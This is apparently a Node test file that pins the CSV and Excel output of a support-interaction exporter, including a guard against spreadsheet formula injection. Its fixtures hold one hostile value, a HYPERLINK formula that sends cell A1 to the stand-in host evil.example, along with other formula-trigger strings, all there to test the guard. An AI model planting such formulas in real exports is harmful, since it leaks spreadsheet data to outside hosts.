/**
 * `--headers api` is the contract scheduled jobs read: the API's field names in the documented order, the raw
 * API text and values (HTML as received, `close`, `facebook_page`, survey answers as text), English review
 * headers, sheet names and Summary, whatever the language. These expectations were written from the
 * exporter's output before the friendly export changed, and pin it: CSV byte for byte, the workbook cell by
 * cell with each cell's type.
 *
 * The CSV's two deliberate changes since (issue 16, the formula guard): a field holding a semicolon or a tab
 * is now quoted like one holding a comma, and a formula character starting a piece a spreadsheet could split
 * off (`x;=HYPERLINK(…)`) gets the apostrophe a whole formula-like field already got. Both are written
 * below as edits of the pinned lines, and an RFC 4180 reader reads the same records from both files but for
 * that one apostrophe.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { exportAuditWorkbook } from '../../src-main/core/reports/audit-workbook';
import { DEFAULT_SCORECARD } from '../../src-main/core/reviews/scorecard';
import { exportInteractions } from '../../src-main/core/reports/export-interactions';
import { openSqliteStore } from '../../src-main/core/store/sqlite/sqlite-store';
import { address, cell, readWorkbook, sheetArrays, tempDir } from './export-helpers';
import { HTML_BODY, fixtureCache } from './export-fixture';

const API_HEADER = 'channel,agent_name,skill_id,case_id,subject,from,to,body,answer,date_creation,close_date,evaluation_survey,cod_act,cod_description,comments,attachments,status';
const REVIEW_HEADER = 'Review status,Greeting and identification,Understanding of the need,Resolution,Tone and courtesy,Correct typification,Response time,Overall score,Review note,Tags,Reviewer,Review time,Result overridden,Override reason,Scorecard,Scorecard version';
const K4 = 'instagram,,1103,K-4,,cliente4@mail.com,soporte@empresa.com,¿Tienen talla M?,,2026-01-21 11:00:00,,4,0040,Consulta,,,open';
const K3 = 'WhatsApp,Ana Gómez,1103,K-3,"a, b; c\td",cliente3@mail.com,soporte@empresa.com,Precio 3 < 5 y 7 > 2,ok,2026-01-20 10:15:00,2026-01-20 10:30:00,3,0012,Reclamo,,,close';
const K2 = 'facebook_page,Luis Pérez,1103,K-2,Hola,cliente2@mail.com,soporte@empresa.com,"x;=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","\'-1, then +2; @me",2026-01-19 08:00:00,,,0012,Reclamo envío,,,open';
const K1 =
  'Email,Ana Gómez,1103,K-1,Pedido,cliente1@mail.com,soporte@empresa.com,"<html><head><style>td{padding:0;border:1px}</style><title>t</title></head><body><p>Hola&nbsp;equipo,</p><p>Mi pedido <b>123</b> no lleg&oacute;.</p><table><tr><td>Caso</td><td>A&amp;B</td></tr></table><img src=""http://track.example/p.gif""></body></html>",<div>Con gusto.<br>Saludos &#8212; Ana</div>,2026-01-18 19:34:31,2026-01-18 20:00:05,5,0012,Reclamo,,,close';

const csvOf = (lines: string[]) => `\uFEFF${lines.join('\r\n')}\r\n`;

/** The pinned lines with the formula guard's two changes (see above). */
const GUARDED: Record<string, string> = {
  [K2]: K2.replace('"x;=HYPERLINK', `"x;'=HYPERLINK`),
  [K1]: K1.replace(',<div>Con gusto.<br>Saludos &#8212; Ana</div>,', ',"<div>Con gusto.<br>Saludos &#8212; Ana</div>",'),
};
const csvFiles = (k: (line: string) => string) => ({
  plain: csvOf([API_HEADER, K4, K3, k(K2), k(K1)]),
  audit: csvOf([
    `${API_HEADER},${REVIEW_HEADER}`,
    `${K4},unreviewed,,,,,,,,,,,,,,,`,
    `${K3},in review,,,,,,,,"'=1+1",,Luis,2026-01-22 12:00:00,No,,Chat and email care,1`,
    `${k(K2)},fail,No,1,No,2,No,1,5,,"coaching, tono",Ana,2026-01-22 11:00:00,No,,Chat and email care,1`,
    `${k(K1)},pass,Yes,5,Yes,4,Yes,3,90,Bien,,Ana,2026-01-22 10:00:00,No,,Chat and email care,1`,
  ]),
});
const PINNED = csvFiles((line) => line);
const NOW = csvFiles((line) => GUARDED[line]!);

/** The records an RFC 4180 reader gets, with the one new apostrophe taken off the one field that gained it. */
const records = (csv: string, unguard: boolean) =>
  (parse(csv, { bom: true }) as string[][]).map((row) => row.map((f) => (unguard ? f.replace("x;'=", 'x;=') : f)));

const SHEETS = [
  'Interactions', 'Summary', 'Insights – Volume', 'Insights – Weekday × hour', 'Insights – Agents', 'Insights – Typifications',
  'Insights – Survey answers', 'Insights – Survey by week', 'Insights – Audit by attribute', 'Insights – Audit by agent',
  'Insights – Audit by week', 'Scorecard',
];

/** A sheet's rows with dates as ISO text, and per data row the type of each cell ('-' empty, 's' text, 'n' number). */
function pinned(sheet: import('exceljs').Worksheet): { rows: unknown[][]; types: string[] } {
  const rows = sheetArrays(sheet).map((r) => r.map((v) => (v instanceof Date ? v.toISOString() : v ?? null)));
  const types: string[] = [];
  for (let r = 2; r <= sheet.rowCount; r++) {
    let line = '';
    for (let c = 1; c <= sheet.columnCount; c++) line += cell(sheet, address(r, c))?.t ?? '-';
    types.push(line);
  }
  return { rows, types };
}

for (const language of ['en', 'es'] as const) {
  test(`--headers api (language ${language}): CSV byte for byte as before, interactions alone and with reviews`, async (t) => {
    const { db, path } = fixtureCache();
    t.after(() => db.close());
    const store = await openSqliteStore({ dbPath: path, access: 'read', readers: 'on-demand' });
    t.after(() => store.close());
    const dir = tempDir(t);
    const plain = join(dir, 'plain.csv');
    await exportInteractions(store, { filter: {}, format: 'csv', headers: 'api', language, outPath: plain, zone: 'America/Bogota' });
    assert.equal(readFileSync(plain, 'utf8'), NOW.plain);
    assert.deepEqual(records(readFileSync(plain, 'utf8'), true), records(PINNED.plain, false));
    const audit = join(dir, 'audit.csv');
    await exportAuditWorkbook(store, { filter: {}, format: 'csv', headers: 'api', language, outPath: audit, zone: 'America/Bogota' });
    assert.equal(readFileSync(audit, 'utf8'), NOW.audit);
    assert.deepEqual(records(readFileSync(audit, 'utf8'), true), records(PINNED.audit, false));
  });

  test(`--headers api (language ${language}): the workbook's sheet names, headers, raw values and cell types as before`, async (t) => {
    const { db, path } = fixtureCache();
    t.after(() => db.close());
    const store = await openSqliteStore({ dbPath: path, access: 'read', readers: 'on-demand' });
    t.after(() => store.close());
    const out = join(tempDir(t), 'audit.xlsx');
    const result = await exportAuditWorkbook(store, { filter: {}, format: 'xlsx', headers: 'api', language, outPath: out, zone: 'America/Bogota' });
    assert.deepEqual(result.sheets, SHEETS);
    const book = await readWorkbook(out);
    assert.deepEqual(book.sheetNames, SHEETS);

    const interactions = pinned(book.sheet('Interactions'));
    assert.deepEqual(interactions.rows, [
      [...API_HEADER.split(','), ...REVIEW_HEADER.split(',')],
      ['instagram', null, '1103', 'K-4', null, 'cliente4@mail.com', 'soporte@empresa.com', '¿Tienen talla M?', null, '2026-01-21T11:00:00.000Z', null, '4', '0040', 'Consulta', null, null, 'open', 'unreviewed'],
      ['WhatsApp', 'Ana Gómez', '1103', 'K-3', 'a, b; c\td', 'cliente3@mail.com', 'soporte@empresa.com', 'Precio 3 < 5 y 7 > 2', 'ok', '2026-01-20T10:15:00.000Z', '2026-01-20T10:30:00.000Z', '3', '0012', 'Reclamo', null, null, 'close', 'in review', null, null, null, null, null, null, null, '=1+1', null, 'Luis', '2026-01-22T12:00:00.000Z', 'No', null, 'Chat and email care', 1],
      ['facebook_page', 'Luis Pérez', '1103', 'K-2', 'Hola', 'cliente2@mail.com', 'soporte@empresa.com', 'x;=HYPERLINK("http://evil.example/?x="&A1,"click")', '-1, then +2; @me', '2026-01-19T08:00:00.000Z', null, null, '0012', 'Reclamo envío', null, null, 'open', 'fail', 'No', 1, 'No', 2, 'No', 1, 5, null, 'coaching, tono', 'Ana', '2026-01-22T11:00:00.000Z', 'No', null, 'Chat and email care', 1],
      ['Email', 'Ana Gómez', '1103', 'K-1', 'Pedido', 'cliente1@mail.com', 'soporte@empresa.com', HTML_BODY, '<div>Con gusto.<br>Saludos &#8212; Ana</div>', '2026-01-18T19:34:31.000Z', '2026-01-18T20:00:05.000Z', '5', '0012', 'Reclamo', null, null, 'close', 'pass', 'Yes', 5, 'Yes', 4, 'Yes', 3, 90, 'Bien', null, 'Ana', '2026-01-22T10:00:00.000Z', 'No', null, 'Chat and email care', 1],
    ]);
    // Survey answers are text cells (raw values), dates are number cells with a date format.
    assert.deepEqual(interactions.types, ['s-ss-sss-n-sss--ss---------------', 'sssssssssnnsss--ss-------s-sns-sn', 'sssssssssn--ss--sssnsnsnn-ssns-sn', 'sssssssssnnsss--sssnsnsnns-sns-sn']);

    const summary = pinned(book.sheet('Summary'));
    assert.deepEqual(summary.rows, [
      ['By', 'Value', 'Interactions', 'Reviewed', 'Passed', 'Failed', 'Pass rate (%)', 'Average score', 'Survey answers', 'Average survey evaluation'],
      ['Agent', '(empty)', 1, 0, 0, 0, null, null, 1, 4],
      ['Agent', 'Ana Gómez', 2, 1, 1, 0, 100, 90, 2, 4],
      ['Agent', 'Luis Pérez', 1, 1, 0, 1, 0, 5, 0],
      ['Channel', 'Email', 1, 1, 1, 0, 100, 90, 1, 5],
      ['Channel', 'WhatsApp', 1, 0, 0, 0, null, null, 1, 3],
      ['Channel', 'facebook_page', 1, 1, 0, 1, 0, 5, 0],
      ['Channel', 'instagram', 1, 0, 0, 0, null, null, 1, 4],
      ['Status', 'close', 2, 1, 1, 0, 100, 90, 2, 4],
      ['Status', 'open', 2, 1, 0, 1, 0, 5, 1, 4],
      ['Total', 'All', 4, 2, 1, 1, 50, 47.5, 3, 4],
    ]);
    // The averages keep Excel's General format (raw values for scripts).
    const average = book.sheet('Summary').getCell('J2');
    assert.equal(average.numFmt ?? undefined, undefined);

    const scorecard = pinned(book.sheet('Scorecard'));
    assert.deepEqual(scorecard.rows[0], ['Scorecard', 'Version', 'Pass mark', 'Attribute key', 'Attribute', 'Weight', 'Scale', 'Critical', 'In the Interactions sheet', 'N/A allowed', 'Help']);
    assert.deepEqual(scorecard.rows[1], ['Chat and email care', 1, 80, 'greeting', 'Greeting and identification', 1, 'yes-no', 'no', 'Text: Yes or No', 'no', DEFAULT_SCORECARD.attributes[0]!.help]);
    assert.deepEqual(scorecard.rows[3], ['Chat and email care', 1, 80, 'resolution', 'Resolution', 3, 'yes-no', 'yes', 'Text: Yes or No', 'no', DEFAULT_SCORECARD.attributes[2]!.help]);

    // The Insights tables' headers follow the language, as they did.
    const typifications = sheetArrays(book.sheet('Insights – Typifications'))[0];
    assert.deepEqual(typifications, language === 'es'
      ? ['Código de tipificación', 'Descripción', 'Interacciones', 'Abiertas (interacciones)', 'Cerradas (interacciones)']
      : ['Typification code', 'Description', 'Interactions', 'Open (interactions)', 'Closed (interactions)']);
  });
}

